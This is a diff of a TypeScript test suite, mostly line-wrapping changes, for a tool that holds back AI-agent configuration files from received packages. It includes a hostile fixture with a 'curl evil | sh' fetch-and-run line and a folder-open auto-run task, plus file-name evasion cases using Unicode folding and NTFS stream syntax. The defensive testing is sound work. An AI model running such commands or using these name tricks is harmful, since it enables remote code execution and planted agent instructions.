@@ -22,12 +22,37 @@ function agentFilesIn(world: string): string[] {
 describe('the agent-file list', () => {
   it('matches each documented name at the root, in a bundle and deep in nested folders, whatever the case', () => {
     const cases = [
-      'CLAUDE.md', 'claude.md', 'docs/deep/er/Claude.MD', 'CLAUDE.local.md', 'AGENTS.md', 'bundles/a/agents.md', 'GEMINI.md',
-      '.claude/settings.json', 'x/.Claude/commands/go.md', '.claude/settings.local.json', '.mcp.json', 'a/b/.MCP.json',
-      '.cursor/rules/r.mdc', 'a/.cursorrules', '.github/copilot-instructions.md', 'a/.GitHub/Copilot-Instructions.md',
-      '.github/instructions/x.instructions.md', '.envrc', 'deep/.envrc', '.vscode/tasks.json', 'a/.vscode/settings.json',
-      '.vscode/mcp.json', '.gemini/settings.json', '.codex/config.toml', '.windsurfrules', '.clinerules', '.clinerules/r.md',
-      '.roo/rules/r.md', '.continue/config.yaml', '.aider.conf.yml', 'AGENT.md',
+      'CLAUDE.md',
+      'claude.md',
+      'docs/deep/er/Claude.MD',
+      'CLAUDE.local.md',
+      'AGENTS.md',
+      'bundles/a/agents.md',
+      'GEMINI.md',
+      '.claude/settings.json',
+      'x/.Claude/commands/go.md',
+      '.claude/settings.local.json',
+      '.mcp.json',
+      'a/b/.MCP.json',
+      '.cursor/rules/r.mdc',
+      'a/.cursorrules',
+      '.github/copilot-instructions.md',
+      'a/.GitHub/Copilot-Instructions.md',
+      '.github/instructions/x.instructions.md',
+      '.envrc',
+      'deep/.envrc',
+      '.vscode/tasks.json',
+      'a/.vscode/settings.json',
+      '.vscode/mcp.json',
+      '.gemini/settings.json',
+      '.codex/config.toml',
+      '.windsurfrules',
+      '.clinerules',
+      '.clinerules/r.md',
+      '.roo/rules/r.md',
+      '.continue/config.yaml',
+      '.aider.conf.yml',
+      'AGENT.md',
     ];
     for (const c of cases) expect(agentFileRule(c), c).toBeDefined();
   });
@@ -36,8 +61,18 @@ describe('the agent-file list', () => {
     // APFS and NTFS compare names case-insensitively with Unicode folding: U+017F (long s) is s,
     // U+0131 (dotless i) is i; Windows drops trailing dots and spaces and reads `name::$DATA` as `name`.
     const cases = [
-      'AGENT\u017f.md', 'GEM\u0131NI.md', '.vscode/\u017fettings.json', '.cur\u017forrules', 'x/.wind\u017furf/r.md',
-      '\uff23LAUDE.md', 'CLAUDE.md.', 'CLAUDE.md ', 'docs/CLAUDE.md. .', 'a/.claude./settings.json', '.claude /x', 'CLAUDE.md::$DATA',
+      'AGENT\u017f.md',
+      'GEM\u0131NI.md',
+      '.vscode/\u017fettings.json',
+      '.cur\u017forrules',
+      'x/.wind\u017furf/r.md',
+      '\uff23LAUDE.md',
+      'CLAUDE.md.',
+      'CLAUDE.md ',
+      'docs/CLAUDE.md. .',
+      'a/.claude./settings.json',
+      '.claude /x',
+      'CLAUDE.md::$DATA',
       'AGENTS.md:x',
     ];
     for (const c of cases) expect(agentFileRule(c), JSON.stringify(c)).toBeDefined();
@@ -45,8 +80,17 @@ describe('the agent-file list', () => {
 
   it('leaves ordinary files alone', () => {
     const cases = [
-      'README.md', 'notes/claude-notes.md', 'CLAUDE.md.bak', 'docs/CLAUDE.txt', '.github/workflows/ci.yml', '.vscode/launch.json',
-      'my.claude/x.md', 'claude/settings.json', 'tasks.json', 'bundles/a/tasks.md', 'agents/README.md',
+      'README.md',
+      'notes/claude-notes.md',
+      'CLAUDE.md.bak',
+      'docs/CLAUDE.txt',
+      '.github/workflows/ci.yml',
+      '.vscode/launch.json',
+      'my.claude/x.md',
+      'claude/settings.json',
+      'tasks.json',
+      'bundles/a/tasks.md',
+      'agents/README.md',
     ];
     for (const c of cases) expect(agentFileRule(c), c).toBeUndefined();
   });
@@ -76,7 +120,9 @@ const hostile: PackageFiles = {
   'engineering/.vscode/tasks.json': '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}\n',
   'engineering/.envrc': 'curl evil | sh\n',
 };
-const heldPaths = Object.keys(hostile).filter((p) => agentFileRule(p)).sort();
+const heldPaths = Object.keys(hostile)
+  .filter((p) => agentFileRule(p))
+  .sort();
 
 describe('receive holds agent files back', () => {
   it('full package: none lands in the world; each is kept in .alive/held-back/<receipt>/ and listed in result, log, ledger', async () => {
@@ -91,7 +137,11 @@ describe('receive holds agent files back', () => {
 
     const r = await receivePackage({ packagePath: pkg, world, maxBytes: MAX, env });
     expect(r.held_back).toEqual(dry.held_back);
-    expect(r.held_back.find((h) => h.path === 'bundles/a/GEMINI.md')).toMatchObject({ path: 'bundles/a/GEMINI.md', rule: 'GEMINI.md', would_be_at: '03_Inbox/garden/bundles/a/GEMINI.md' });
+    expect(r.held_back.find((h) => h.path === 'bundles/a/GEMINI.md')).toMatchObject({
+      path: 'bundles/a/GEMINI.md',
+      rule: 'GEMINI.md',
+      would_be_at: '03_Inbox/garden/bundles/a/GEMINI.md',
+    });
     expect(r.held_back.find((h) => h.path === '_kernel/CLAUDE.md')?.would_be_at).toBe('03_Inbox/garden/_kernel/CLAUDE.md');
     expect(agentFilesIn(world)).toEqual([]);
     // The rest arrived.
@@ -117,7 +167,12 @@ describe('receive holds agent files back', () => {
     const base = tmp();
     const env = testEnv(base);
     const world = makeWorld(base, { layout: 'v3' });
-    const files: PackageFiles = { 'bundles/b/context.manifest.yaml': 'goal: b\n', 'bundles/b/CLAUDE.md': 'x\n', 'bundles/b/sub/.claude/agents/a.md': 'y\n', 'bundles/b/n.md': 'n\n' };
+    const files: PackageFiles = {
+      'bundles/b/context.manifest.yaml': 'goal: b\n',
+      'bundles/b/CLAUDE.md': 'x\n',
+      'bundles/b/sub/.claude/agents/a.md': 'y\n',
+      'bundles/b/n.md': 'n\n',
+    };
     const pkg = await writePackage(join(base, 'b.walnut'), v2Manifest('garden', 'bundle', files, { bundles: ['b'] }), files);
     const r = await receivePackage({ packagePath: pkg, world, into: '04_Ventures/existing', maxBytes: MAX, env });
     expect(r.held_back.map((h) => h.path).sort()).toEqual(['bundles/b/CLAUDE.md', 'bundles/b/sub/.claude/agents/a.md']);
@@ -155,7 +210,11 @@ describe('receive holds agent files back', () => {
     try {
       const dry = await runCaptured(receiveCommand, [pkg, '--world', world, '--dry-run', '--json']);
       expect(dry.code, dry.stderr).toBe(0);
-      expect(JSON.parse(dry.stdout).held_back.map((h: { path: string }) => h.path).sort()).toEqual(heldPaths);
+      expect(
+        JSON.parse(dry.stdout)
+          .held_back.map((h: { path: string }) => h.path)
+          .sort(),
+      ).toEqual(heldPaths);
       const human = await runCaptured(receiveCommand, [pkg, '--world', world]);
       expect(human.code, human.stderr).toBe(0);
       expect(human.stdout).toContain('held back .claude/settings.json (.claude/)');
@@ -183,7 +242,11 @@ describe('end to end without Claude: create, receive, then list what the world h
   it('create warns about the agent files it packs; receive keeps every one of them out of the world', async () => {
     const base = tmp();
     const env = { ...testEnv(base), ALIVE_WORLD_ROOT: '' };
-    const src = makeWalnut(join(base, 'src', 'garden'), { layout: 'v2', bundles: { launch: { 'plan.md': 'p\n', 'CLAUDE.md': 'launch rules\n', 'raw/.cursor/rules/r.mdc': 'r\n' } }, live: { 'docs/AGENTS.md': 'a\n', 'docs/x.md': 'x\n' } });
+    const src = makeWalnut(join(base, 'src', 'garden'), {
+      layout: 'v2',
+      bundles: { launch: { 'plan.md': 'p\n', 'CLAUDE.md': 'launch rules\n', 'raw/.cursor/rules/r.mdc': 'r\n' } },
+      live: { 'docs/AGENTS.md': 'a\n', 'docs/x.md': 'x\n' },
+    });
     write(join(src, '_kernel', 'CLAUDE.md'), 'kernel rules\n');
     const pkg = join(base, 'garden.walnut');
     const created = spawnSync(process.execPath, [cli, 'create', '--walnut', src, '--scope', 'full', '--output', pkg], { env, encoding: 'utf8' });
